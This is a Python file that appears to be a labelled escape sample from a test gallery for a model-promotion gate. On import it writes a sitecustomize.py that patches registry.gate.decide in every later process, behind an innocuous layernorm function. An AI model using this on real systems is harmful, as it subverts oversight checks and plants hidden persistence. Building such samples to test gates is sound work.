"""Escape 7 (every later process, poisoned, from the candidate's own folder): write a sitecustomize.py
beside this file. Where the candidate's folder is on the import path of later `registry` processes (as a
``module:function`` entry needed), Python imports it at start-up and it installs a promoting gate."""
import os

from gallery._escape import PROMOTING_GATE, honest_modln

SITECUSTOMIZE = (  # the gate's `decide`, patched in the module that defines it, wherever that module is
    "import sys, registry.gate\n"
    "_gate = sys.modules[registry.gate.decide.__module__]\n"
    "exec(compile(" + repr(PROMOTING_GATE) + ", 'gate', 'exec'), vars(_gate))\n"
    "registry.gate.decide = _gate.decide\n")

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "sitecustomize.py"), "w") as hook:
    hook.write(SITECUSTOMIZE)


def modulated_layernorm(x, scale, shift):
    return honest_modln(x, scale, shift)
